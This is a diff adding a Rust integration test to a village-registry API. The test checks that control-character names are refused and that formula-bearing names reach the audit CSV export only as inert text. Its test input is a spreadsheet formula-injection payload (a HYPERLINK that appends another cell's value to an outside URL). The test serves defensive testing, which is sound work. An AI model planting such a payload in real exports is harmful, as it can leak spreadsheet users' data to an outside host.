@@ -467,3 +467,62 @@ async fn a_change_whose_audit_row_cannot_be_written_is_not_made() {
     assert_eq!(after.len(), before.len() + 1);
     assert_eq!(after[0], "village_renamed");
 }
+
+#[tokio::test]
+async fn a_name_holding_a_formula_or_a_control_character_reaches_no_file_as_either() {
+    let (_srv, c, api) = started().await;
+    // A control character is refused at the edge, in both languages, and
+    // nothing is stored.
+    for bad in ["桃园\u{1}村", "\u{202e}村园桃", "桃园\n村"] {
+        let res = c
+            .post(format!("{api}/villages"))
+            .json(&json!({"code": "V9", "name": bad}))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{bad:?}");
+        let body: Value = res.json().await.unwrap();
+        assert_eq!(body["error"]["code"], "bad_request");
+        assert!(body["error"]["message_zh"].as_str().is_some());
+    }
+    let listed: Vec<Value> = c
+        .get(format!("{api}/villages"))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert!(listed.iter().all(|v| v["code"] != "V9"));
+    // A formula is a name like another; the audit export keeps it text.
+    let formula = r#"=HYPERLINK("http://x/"&B2,"点此")"#;
+    let res = c
+        .post(format!("{api}/villages"))
+        .json(&json!({"code": "V9", "name": formula}))
+        .send()
+        .await
+        .unwrap();
+    assert!(res.status().is_success());
+    let csv = c
+        .get(format!("{api}/audit.csv"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect();
+    assert!(cells.iter().any(|cell| cell.contains("HYPERLINK")));
+    assert!(
+        cells
+            .iter()
+            .all(|cell| !cell.starts_with(['=', '+', '@']) && !cell.starts_with("-1")),
+        "a cell a spreadsheet reads as a formula: {cells:?}"
+    );
+}
